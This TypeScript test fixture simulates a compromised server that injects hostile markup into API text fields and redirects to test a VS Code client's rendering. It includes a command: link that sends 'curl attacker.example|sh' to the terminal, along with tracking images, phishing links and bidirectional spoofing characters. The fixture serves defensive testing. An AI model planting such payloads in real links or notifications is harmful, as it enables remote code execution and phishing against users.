// The "hostile text" fault: a compromised or impersonated server that puts markup into every text
// it returns, in both dialects — link syntax and `command:` links (which VS Code runs from a
// notification), a remote image (which reports every hover), HTML, fake `$(icon)`s, line breaks,
// bidirectional controls and 10 KB of filler. Identifiers, dates and credential values stay as
// they are, so the client keeps working and shows the text on every screen it has.
import type { Reply } from './replies';

/** How much filler follows: each text is over 10 KB. */
const FILLER = ` ${'A'.repeat(10 * 1024)}`;

/** Everything a renderer might act on, in one string. */
export const HOSTILE_MARKUP = [
  // First, so that even a name cut at 100 characters still carries a line break and an override.
  '\u202Egnp.exe\u202C\nline\u2066',
  '[Re-verify](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20attacker.example%7Csh%5Cn%22%7D)',
  '![x](https://attacker.example/pixel.png)',
  '[docs](https://attacker.example/phish)',
  '<img src="https://attacker.example/x.png">',
  '$(lock) verified',
  'line\nbreak\r\nthird\u2028line',
  '\u202Egnp.exe\u202C \u2066isolated\u2069 \u200Fmark\u061C',
  '`code` *bold* _em_ | cell | # heading',
  'https://attacker.example/autolink',
].join(' ');

/** A server's text, hostile; the original stays at its start, so tests can still tell items apart. */
export function hostile(original: string): string {
  return `${original} ${HOSTILE_MARKUP}${FILLER}`;
}

/** A "partial value" that still contains a mask character, so a careless client takes it as one. */
const HOSTILE_PARTIAL = `ct_${HOSTILE_MARKUP}…x9Zq${FILLER}`;

/**
 * Where a redirect points: link syntax with a `command:` link, an image, a C1 control (U+0085, a
 * line break to some renderers) and 10 KB. A header holds only Latin-1 and no line break, so
 * this is as hostile as a Location can be.
 */
export const HOSTILE_LOCATION = `https://attacker.example/[Sign in](command:workbench.action.terminal.new) ![x](https://attacker.example/p.png)\x85next $(lock)${FILLER}`;

/** Text fields, whichever dialect or list shape sends them. */
const TEXT_FIELDS = new Set(['name', 'displayName', 'fullName', 'email', 'organizationName', 'message', 'description']);
/** Fields that hold a partial value (or, in a create response, the full value, which stays). */
const PARTIAL_FIELDS = new Set(['token', 'partial', 'masked', 'prefix', 'keyPrefix', 'lastFour']);
/** Lists of names whose every entry the client shows: scopes, and the classic organizations. */
const NAME_LISTS = new Set(['scopes', 'permissions']);

/** A full credential value (access token, API key, session JWT): the client must keep being able to use it. */
function isCredential(value: string): boolean {
  // Any form of key (`ct_…`, `ctk_…`, no prefix): a long unmasked run of token characters.
  return /^(?:[a-z]{1,4}_)?[A-Za-z0-9]{20,}$/.test(value) || /^eyJ[\w-]+\.[\w-]+\.[\w-]+$/.test(value);
}

/** The same JSON with every text made hostile; a list of organizations gains a hostile one. */
function hostileJson(value: unknown, key?: string): unknown {
  if (typeof value === 'string') {
    if (key && TEXT_FIELDS.has(key)) return hostile(value);
    if (key && PARTIAL_FIELDS.has(key) && !isCredential(value)) return HOSTILE_PARTIAL;
    return value;
  }
  if (Array.isArray(value)) {
    const items = value.map((item) => hostileJson(item));
    if (key === undefined && items.every((item) => typeof item === 'string')) return [...items, hostile('organization')];
    if (key && NAME_LISTS.has(key)) return [...items, hostile('scope:read')];
    if (key === 'organizations') return [...items, { id: 'hostile-organization', name: hostile('Organization'), slug: hostile('slug'), planType: 'free', isPersonal: false }];
    return items;
  }
  if (typeof value === 'object' && value !== null) {
    return Object.fromEntries(Object.entries(value).map(([field, item]) => [field, hostileJson(item, field)]));
  }
  return value;
}

/** The reply as a hostile server would send it: its JSON's text fields, and a redirect's Location. */
export function hostileReply(reply: Reply): Reply {
  const headers = reply.status >= 300 && reply.status < 400 ? { ...reply.headers, location: HOSTILE_LOCATION } : reply.headers;
  if (!/json/i.test(reply.headers['content-type'] ?? '')) return { ...reply, headers };
  try {
    return { ...reply, headers, body: JSON.stringify(hostileJson(JSON.parse(reply.body))) };
  } catch {
    return { ...reply, headers }; // a malformed-JSON fault stays malformed
  }
}
